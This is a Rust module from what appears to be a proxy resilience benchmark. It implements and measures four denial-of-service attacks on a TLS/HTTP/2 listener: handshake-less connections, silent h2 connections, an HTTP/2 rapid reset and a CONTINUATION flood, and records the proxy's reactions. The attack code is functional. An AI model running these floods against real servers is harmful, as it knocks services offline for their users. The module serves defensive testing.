//! The TLS and HTTP/2 attacks, against a proxy's TLS listener: connections that never start a
//! handshake, TLS connections silent once ALPN picked h2, rapid reset and a CONTINUATION
//! flood (raw frames from `portico_test_support::h2_frames`); each a measurement and a cell.

use super::attacks::origin_requests;
use super::peers::Target;
use crate::throughput::procinfo;
use crate::tls_bench::load::{HandshakeClient, LoadReport};
use crate::tls_bench::peers::HOST;
use anyhow::{Context, Result, bail};
use openssl::ssl::{SslConnector, SslMethod, SslVerifyMode};
use portico_test_support::h2_frames::{self as h2, Frame};
use serde::Serialize;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf};
use tokio::net::TcpStream;
use tokio_openssl::SslStream;

/// Connections of the handshake-less attack (the 500).
pub const SILENT_CONNECTIONS: usize = 500;
/// TLS connections that go silent after ALPN picked h2.
pub const IDLE_H2_CONNECTIONS: usize = 100;
/// Streams the rapid-reset connection opens and cancels, at most.
pub const RAPID_RESET_STREAMS: u32 = 10_000;
/// CONTINUATION frames of the flood, at most.
pub const CONTINUATION_FRAMES: usize = 4_000;
/// Bytes of header fields in each CONTINUATION frame.
pub const CONTINUATION_BYTES: usize = 4_096;
/// The deadline every proxy is configured with for a handshake or a first request.
pub const HEAD_DEADLINE: Duration = Duration::from_secs(10);
/// The idle timeout every proxy is configured with.
pub const IDLE_DEADLINE: Duration = Duration::from_secs(60);
/// Past a deadline, how long a connection may still be open before it counts as held.
pub const GRACE: Duration = Duration::from_secs(2);

/// A TLS client offering `alpn` (wire format). The chain is not verified, as with `bench-tls`'s
/// clients: the attacks are about what happens around the handshake.
fn connector(alpn: &[u8]) -> Result<SslConnector> {
    let mut b = SslConnector::builder(SslMethod::tls_client())?;
    b.set_verify(SslVerifyMode::NONE);
    b.set_alpn_protos(alpn)?;
    Ok(b.build())
}

/// A TLS connection to `addr` for [`HOST`] through `connector`.
async fn tls_connect(addr: SocketAddr, connector: &SslConnector) -> Result<SslStream<TcpStream>> {
    let tcp = TcpStream::connect(addr).await?;
    let ssl = connector.configure()?.into_ssl(HOST)?;
    let mut tls = SslStream::new(ssl, tcp)?;
    Pin::new(&mut tls)
        .connect()
        .await
        .context("TLS handshake")?;
    Ok(tls)
}

/// When the proxy closed each of a batch of connections it was left to deal with.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Held {
    /// Connections opened (for TLS ones: handshake done).
    pub opened: usize,
    /// Connections that could not be opened.
    pub failed: usize,
    /// Seconds from connect to the proxy's close, for those it closed, ascending.
    pub closed_after_s: Vec<f64>,
    /// Of those closed, how many got a GOAWAY first.
    pub goaway: usize,
    /// The deadline the row is about plus [`GRACE`], seconds.
    pub past_s: f64,
    /// Connections still open at `past_s`.
    pub open_past: usize,
    /// How long the connections were watched, seconds.
    pub watched_s: f64,
}

impl Held {
    fn new(
        closes: Vec<(Option<Duration>, bool)>,
        failed: usize,
        past: Duration,
        cap: Duration,
    ) -> Held {
        let mut closed: Vec<f64> = closes
            .iter()
            .filter_map(|(c, _)| c.map(|d| d.as_secs_f64()))
            .collect();
        closed.sort_by(f64::total_cmp);
        Held {
            opened: closes.len(),
            failed,
            open_past: closes
                .iter()
                .filter(|(c, _)| c.is_none_or(|d| d > past))
                .count(),
            goaway: closes.iter().filter(|(c, g)| c.is_some() && *g).count(),
            closed_after_s: closed,
            past_s: past.as_secs_f64(),
            watched_s: cap.as_secs_f64(),
        }
    }

    /// The table cell: how many were closed and when, how many were still open past the
    /// deadline.
    pub fn cell(&self) -> String {
        let n = self.opened;
        let closed = self.closed_after_s.len();
        let when = match (self.closed_after_s.first(), self.closed_after_s.last()) {
            (Some(a), Some(b)) if b - a < 0.05 => format!(" after {a:.1} s"),
            (Some(a), Some(b)) => format!(
                " after {a:.1}–{b:.1} s (median {:.1})",
                self.closed_after_s[closed / 2]
            ),
            _ => String::new(),
        };
        let within = if closed < n {
            format!(" within {:.0} s", self.watched_s)
        } else {
            String::new()
        };
        let goaway = match self.goaway {
            0 => String::new(),
            g if g == closed => ", each with a GOAWAY".into(),
            g => format!(", {g} with a GOAWAY"),
        };
        let failed = match self.failed {
            0 => String::new(),
            f => format!("; {f} could not connect"),
        };
        format!(
            "**{} of {n} held at {:.0} s**; {closed} closed{when}{within}{goaway}{failed}",
            self.open_past, self.past_s
        )
    }
}

/// Reads `s` until the proxy closes it (end of stream or an error) or `cap` after `since`:
/// when it closed, and whether a GOAWAY came first.
async fn watch<S: AsyncReadExt + Unpin>(
    mut s: S,
    since: Instant,
    cap: Duration,
) -> (Option<Duration>, bool) {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let left = cap.saturating_sub(since.elapsed());
        match tokio::time::timeout(left, s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => {
                let goaway = h2::frames(&got).iter().any(|f| f.kind == h2::GOAWAY);
                return (Some(since.elapsed()), goaway);
            }
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
            Err(_) => return (None, false),
        }
    }
}

/// Opens `n` TCP connections to `addr`, one after the other, each with the instant before its
/// connect (so a busy client overstates, never understates, how long one is held); and how
/// many failed.
async fn silent_connections(addr: SocketAddr, n: usize) -> (Vec<(TcpStream, Instant)>, usize) {
    let mut open = Vec::new();
    let mut failed = 0;
    for _ in 0..n {
        let since = Instant::now();
        match tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(addr)).await {
            Ok(Ok(s)) => open.push((s, since)),
            _ => failed += 1,
        }
    }
    (open, failed)
}

/// (a) `n` TCP connections to the TLS listener that never send a byte: when each is closed,
/// watched up to `cap`, and how many are held past [`HEAD_DEADLINE`].
pub async fn no_handshake(t: &Target, n: usize, cap: Duration) -> Result<Held> {
    let addr = t.tls.context("no TLS listener")?;
    let (open, failed) = silent_connections(addr, n).await;
    let tasks: Vec<_> = open
        .into_iter()
        .map(|(s, since)| tokio::spawn(watch(s, since, cap)))
        .collect();
    let mut closes = Vec::new();
    for task in tasks {
        closes.push(task.await?);
    }
    Ok(Held::new(closes, failed, HEAD_DEADLINE + GRACE, cap))
}

/// (b) `n` TLS connections whose ALPN picks h2 and which then send nothing (no preface):
/// when each is closed, and how many are held past [`IDLE_DEADLINE`].
pub async fn silent_h2(t: &Target, n: usize, cap: Duration) -> Result<Held> {
    let addr = t.tls.context("no TLS listener")?;
    let connector = Arc::new(connector(b"\x02h2")?);
    let mut tasks = Vec::new();
    let mut failed = 0;
    for _ in 0..n {
        let since = Instant::now();
        match tls_connect(addr, &connector).await {
            Ok(tls) if tls.ssl().selected_alpn_protocol() == Some(b"h2") => {
                tasks.push(tokio::spawn(watch(tls, since, cap)));
            }
            Ok(_) => bail!("ALPN did not pick h2"),
            Err(_) => failed += 1,
        }
    }
    let mut closes = Vec::new();
    for task in tasks {
        closes.push(task.await?);
    }
    Ok(Held::new(closes, failed, IDLE_DEADLINE + GRACE, cap))
}

/// (e) What legitimate TLS clients get: `bench-tls`'s handshake client (a new connection per
/// `GET /`) for `run`, alone and then while [`SILENT_CONNECTIONS`] handshake-less
/// connections are held.
#[derive(Debug, Clone, Serialize)]
pub struct Legit {
    /// Without the attack.
    pub alone: LoadSummary,
    /// While the silent connections were open.
    pub attacked: LoadSummary,
    /// Silent connections open during the second run.
    pub silent: usize,
}

/// The part of a [`LoadReport`] the row shows.
#[derive(Debug, Clone, Serialize)]
pub struct LoadSummary {
    /// GETs answered 200.
    pub answered: u64,
    /// Failures (connection, TLS, HTTP, non-200).
    pub errors: u64,
    /// Answered per second.
    pub rps: f64,
    /// Median latency, ms.
    pub p50_ms: Option<f64>,
    /// 99th percentile latency, ms.
    pub p99_ms: Option<f64>,
}

impl From<&LoadReport> for LoadSummary {
    fn from(r: &LoadReport) -> Self {
        LoadSummary {
            answered: r.requests,
            errors: r.errors,
            rps: r.rps,
            p50_ms: r.p50_us.map(|u| u / 1000.0),
            p99_ms: r.p99_us.map(|u| u / 1000.0),
        }
    }
}

impl LoadSummary {
    fn text(&self) -> String {
        let ms = |v: Option<f64>| v.map_or("—".into(), |v| format!("{v:.1}"));
        let share = self.answered as f64 / (self.answered + self.errors).max(1) as f64;
        format!(
            "{:.1} % of {} answered, p50 {} / p99 {} ms",
            share * 100.0,
            self.answered + self.errors,
            ms(self.p50_ms),
            ms(self.p99_ms)
        )
    }
}

impl Legit {
    /// The table cell.
    pub fn cell(&self) -> String {
        format!("**{}**; alone {}", self.attacked.text(), self.alone.text())
    }
}

/// Runs [`Legit`]'s two loads of `run` with `clients` connections at once.
pub async fn legit_clients(t: &Target, clients: usize, run: Duration) -> Result<Legit> {
    let addr = t.tls.context("no TLS listener")?;
    let client = HandshakeClient {
        addr,
        sni: HOST.into(),
        connections: clients,
        duration: run,
        resume: false,
    };
    let load = |c: HandshakeClient| async move {
        tokio::task::spawn_blocking(move || c.run())
            .await
            .context("load thread")?
    };
    let alone = load(client.clone()).await?;
    let (silent, _) = silent_connections(addr, SILENT_CONNECTIONS).await;
    let attacked = load(client).await?;
    let still = silent.len();
    drop(silent);
    Ok(Legit {
        alone: (&alone).into(),
        attacked: (&attacked).into(),
        silent: still,
    })
}

/// What the proxy sent back on an HTTP/2 connection under attack, as the reader saw it.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Reaction {
    /// The GOAWAY: last stream processed, error code.
    pub goaway: Option<(u32, u32)>,
    /// RST_STREAM frames received, and the first one's code.
    pub resets: usize,
    /// The code of the first RST_STREAM.
    pub first_reset: Option<u32>,
    /// HEADERS frames received (responses).
    pub responses: usize,
    /// Whether the proxy closed the connection.
    pub closed: bool,
    /// How many units (streams, frames) the attacker had sent at the first reaction
    /// (GOAWAY, RST_STREAM, response or close).
    pub sent_at_reaction: Option<usize>,
}

/// Reads frames off `r` into `seen` until the connection ends; sets `stop` at GOAWAY or close.
async fn read_frames(
    mut r: ReadHalf<SslStream<TcpStream>>,
    mut bytes: Vec<u8>,
    seen: Arc<Mutex<Reaction>>,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicUsize>,
) {
    let mut buf = vec![0u8; 16_384];
    loop {
        let mut used = 0;
        while let Some((f, n)) = Frame::parse(&bytes[used..]) {
            used += n;
            let mut s = seen.lock().unwrap_or_else(|e| e.into_inner());
            let reacted = match f.kind {
                h2::GOAWAY => {
                    s.goaway = s.goaway.or(f.goaway());
                    stop.store(true, Ordering::SeqCst);
                    true
                }
                h2::RST_STREAM => {
                    s.resets += 1;
                    s.first_reset = s.first_reset.or(f.reset_code());
                    true
                }
                h2::HEADERS => {
                    s.responses += 1;
                    true
                }
                _ => false,
            };
            if reacted && s.sent_at_reaction.is_none() {
                s.sent_at_reaction = Some(sent.load(Ordering::SeqCst));
            }
        }
        bytes.drain(..used);
        match r.read(&mut buf).await {
            Ok(0) | Err(_) => {
                let mut s = seen.lock().unwrap_or_else(|e| e.into_inner());
                s.closed = true;
                if s.sent_at_reaction.is_none() {
                    s.sent_at_reaction = Some(sent.load(Ordering::SeqCst));
                }
                stop.store(true, Ordering::SeqCst);
                return;
            }
            Ok(n) => bytes.extend_from_slice(&buf[..n]),
        }
    }
}

/// An HTTP/2 connection to the TLS listener after the preface and the SETTINGS exchange: the
/// stream, and what was read past the proxy's SETTINGS.
async fn h2_connection(addr: SocketAddr) -> Result<(SslStream<TcpStream>, Vec<u8>)> {
    let mut tls = tls_connect(addr, &connector(b"\x02h2")?).await?;
    if tls.ssl().selected_alpn_protocol() != Some(b"h2") {
        bail!("ALPN did not pick h2");
    }
    tls.write_all(h2::PREFACE).await?;
    let mut bytes = Vec::new();
    let mut buf = [0u8; 4096];
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    loop {
        let mut used = 0;
        while let Some((f, n)) = Frame::parse(&bytes[used..]) {
            used += n;
            if f.kind == h2::SETTINGS && f.flags & h2::ACK == 0 {
                tls.write_all(&h2::frame(h2::SETTINGS, h2::ACK, 0, &[]))
                    .await?;
                return Ok((tls, bytes.split_off(used)));
            }
        }
        match tokio::time::timeout_at(deadline, tls.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => bytes.extend_from_slice(&buf[..n]),
            _ => bail!("no SETTINGS from the proxy"),
        }
    }
}

/// A connection under attack: the write half, and the reader's findings.
struct Attack {
    w: tokio::io::WriteHalf<SslStream<TcpStream>>,
    seen: Arc<Mutex<Reaction>>,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicUsize>,
    reader: tokio::task::JoinHandle<()>,
}

impl Attack {
    async fn open(addr: SocketAddr) -> Result<Attack> {
        let (tls, rest) = h2_connection(addr).await?;
        let (r, w) = tokio::io::split(tls);
        let seen = Arc::new(Mutex::new(Reaction::default()));
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicUsize::new(0));
        let reader = tokio::spawn(read_frames(
            r,
            rest,
            seen.clone(),
            stop.clone(),
            sent.clone(),
        ));
        Ok(Attack {
            w,
            seen,
            stop,
            sent,
            reader,
        })
    }

    fn stopped(&self) -> bool {
        self.stop.load(Ordering::SeqCst)
    }

    /// Waits up to `wait` for the proxy to close the connection, then stops reading.
    async fn finish(self, wait: Duration) -> Reaction {
        let _ = tokio::time::timeout(wait, async {
            while !self.seen.lock().unwrap_or_else(|e| e.into_inner()).closed {
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        })
        .await;
        self.reader.abort();
        drop(self.w);
        self.seen.lock().unwrap_or_else(|e| e.into_inner()).clone()
    }
}

/// (c) Rapid reset: streams opened (`GET /`) and at once cancelled (RST_STREAM CANCEL), in
/// bursts of 100 on one connection, up to [`RAPID_RESET_STREAMS`] or the proxy's GOAWAY or
/// close.
#[derive(Debug, Clone, Serialize)]
pub struct RapidReset {
    /// Streams sent.
    pub sent: usize,
    /// What the proxy did.
    pub reaction: Reaction,
    /// Requests the origins received meanwhile.
    pub origin_requests: u64,
}

impl RapidReset {
    /// The table cell.
    pub fn cell(&self) -> String {
        let r = &self.reaction;
        let head = match r.goaway {
            Some((last, code)) => format!(
                "**GOAWAY {} after {} streams**",
                h2::error_name(code),
                last.div_ceil(2)
            ),
            None if r.closed => format!(
                "**closed without GOAWAY** after ≤ {} streams",
                r.sent_at_reaction.unwrap_or(self.sent)
            ),
            None => format!("**all {} streams taken**, no GOAWAY", self.sent),
        };
        let open = if r.closed || r.goaway.is_none() {
            ""
        } else {
            ", connection left open"
        };
        format!(
            "{head}{open}; {} sent, origins got {} requests",
            self.sent, self.origin_requests
        )
    }
}

/// Runs (c) against `t`.
pub async fn rapid_reset(t: &Target) -> Result<RapidReset> {
    let addr = t.tls.context("no TLS listener")?;
    let before = origin_requests(t).await;
    let mut a = Attack::open(addr).await?;
    let block = h2::get_block(HOST);
    let mut id = 1u32;
    while id / 2 < RAPID_RESET_STREAMS && !a.stopped() {
        let mut burst = Vec::new();
        for _ in 0..100 {
            burst.extend(h2::frame(
                h2::HEADERS,
                h2::END_STREAM | h2::END_HEADERS,
                id,
                &block,
            ));
            burst.extend(h2::frame(h2::RST_STREAM, 0, id, &8u32.to_be_bytes()));
            id += 2;
        }
        if a.w.write_all(&burst).await.is_err() {
            break;
        }
        a.sent.fetch_add(100, Ordering::SeqCst);
        tokio::task::yield_now().await;
    }
    let sent = a.sent.load(Ordering::SeqCst);
    let reaction = a.finish(Duration::from_secs(3)).await;
    // Give requests already on their way time to reach an origin.
    tokio::time::sleep(Duration::from_millis(500)).await;
    Ok(RapidReset {
        sent,
        reaction,
        origin_requests: origin_requests(t).await.saturating_sub(before),
    })
}

/// (d) CONTINUATION flood: `GET /` whose header block never ends — HEADERS without
/// END_HEADERS, then CONTINUATION frames of [`CONTINUATION_BYTES`] of small valid header
/// fields, one a millisecond, up to [`CONTINUATION_FRAMES`] or the proxy's reaction.
#[derive(Debug, Clone, Serialize)]
pub struct Flood {
    /// CONTINUATION frames sent.
    pub sent: usize,
    /// What the proxy did.
    pub reaction: Reaction,
    /// The proxy's resident memory before, KiB.
    pub rss_before_kib: u64,
    /// Its highest reading during the flood, KiB.
    pub rss_peak_kib: u64,
}

impl Flood {
    /// The table cell.
    pub fn cell(&self) -> String {
        let r = &self.reaction;
        let at = r.sent_at_reaction.unwrap_or(self.sent);
        let kib = |frames: usize| frames * CONTINUATION_BYTES / 1024;
        let what = match (r.goaway, r.first_reset, r.responses) {
            (Some((_, code)), _, _) => format!("GOAWAY {}", h2::error_name(code)),
            (None, Some(code), _) => format!("RST_STREAM {}", h2::error_name(code)),
            (None, None, n) if n > 0 => "an answer".into(),
            _ if r.closed => "closed".into(),
            _ => String::new(),
        };
        let head = if what.is_empty() {
            format!(
                "**no reaction: all {} frames ({} KiB) taken**",
                self.sent,
                kib(self.sent)
            )
        } else {
            format!("**{what} after ≤ {at} frames ({} KiB)**", kib(at))
        };
        let after = match (r.closed, what.is_empty()) {
            (true, _) => String::new(),
            (false, false) => format!(", connection open after {} frames", self.sent),
            (false, true) => ", connection open".into(),
        };
        format!(
            "{head}{after}; RSS {:.0} → {:.0} MiB",
            self.rss_before_kib as f64 / 1024.0,
            self.rss_peak_kib as f64 / 1024.0
        )
    }
}

/// One CONTINUATION payload: header fields `x-f: a…` (100-byte values) filling
/// [`CONTINUATION_BYTES`] as far as whole fields go.
fn continuation_payload() -> Vec<u8> {
    let mut field = Vec::new();
    h2::literal(&mut field, "x-f", &[b'a'; 100]);
    let mut payload = Vec::new();
    while payload.len() + field.len() <= CONTINUATION_BYTES {
        payload.extend_from_slice(&field);
    }
    payload
}

/// Runs (d) against `t`.
pub async fn continuation_flood(t: &Target) -> Result<Flood> {
    let addr = t.tls.context("no TLS listener")?;
    let rss_before = procinfo::rss_kib(t.pid);
    let mut peak = rss_before;
    let mut a = Attack::open(addr).await?;
    let block = h2::get_block(HOST);
    a.w.write_all(&h2::frame(h2::HEADERS, h2::END_STREAM, 1, &block))
        .await?;
    let payload = continuation_payload();
    let frame = h2::frame(h2::CONTINUATION, 0, 1, &payload);
    for i in 0..CONTINUATION_FRAMES {
        // A reset stream's block must still be decoded (HPACK state): go on until the proxy
        // closes or sends GOAWAY, counting how much it read meanwhile.
        if a.stopped() || a.w.write_all(&frame).await.is_err() {
            break;
        }
        a.sent.fetch_add(1, Ordering::SeqCst);
        if i % 100 == 0 {
            peak = peak.max(procinfo::rss_kib(t.pid));
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    peak = peak.max(procinfo::rss_kib(t.pid));
    let sent = a.sent.load(Ordering::SeqCst);
    let reacted = a
        .seen
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .sent_at_reaction
        .is_some();
    let wait = if reacted { 1 } else { 3 };
    let reaction = a.finish(Duration::from_secs(wait)).await;
    Ok(Flood {
        sent,
        reaction,
        rss_before_kib: rss_before,
        rss_peak_kib: peak,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn held_counts_what_outlived_the_deadline() {
        let s = Duration::from_secs_f64;
        let closes = vec![
            (Some(s(10.0)), false),
            (Some(s(10.2)), true),
            (Some(s(30.0)), false),
            (None, false),
        ];
        let h = Held::new(closes, 1, s(12.0), s(120.0));
        assert_eq!((h.opened, h.open_past, h.goaway), (4, 2, 1));
        assert_eq!(h.closed_after_s, vec![10.0, 10.2, 30.0]);
        let cell = h.cell();
        assert!(cell.starts_with("**2 of 4 held at 12 s**; 3 closed after 10.0–30.0 s (median 10.2) within 120 s, 1 with a GOAWAY; 1 could not connect"), "{cell}");
        let all = Held::new(vec![(Some(s(10.0)), false); 3], 0, s(12.0), s(120.0));
        assert_eq!(all.cell(), "**0 of 3 held at 12 s**; 3 closed after 10.0 s");
    }

    #[test]
    fn reactions_read_as_cells() {
        let rr = RapidReset {
            sent: 1000,
            reaction: Reaction {
                goaway: Some((39, 0xb)),
                closed: true,
                ..Reaction::default()
            },
            origin_requests: 3,
        };
        assert_eq!(
            rr.cell(),
            "**GOAWAY ENHANCE_YOUR_CALM after 20 streams**; 1000 sent, origins got 3 requests"
        );
        let flood = Flood {
            sent: 4000,
            reaction: Reaction::default(),
            rss_before_kib: 10 * 1024,
            rss_peak_kib: 12 * 1024,
        };
        assert!(flood.cell().starts_with("**no reaction: all 4000 frames (16000 KiB) taken**, connection open; RSS 10 → 12 MiB"), "{}", flood.cell());
    }

    #[test]
    fn a_continuation_payload_is_whole_fields_within_its_size() {
        let p = continuation_payload();
        assert!(p.len() <= CONTINUATION_BYTES && p.len() > CONTINUATION_BYTES - 106);
        assert_eq!(p.len() % 106, 0);
    }
}
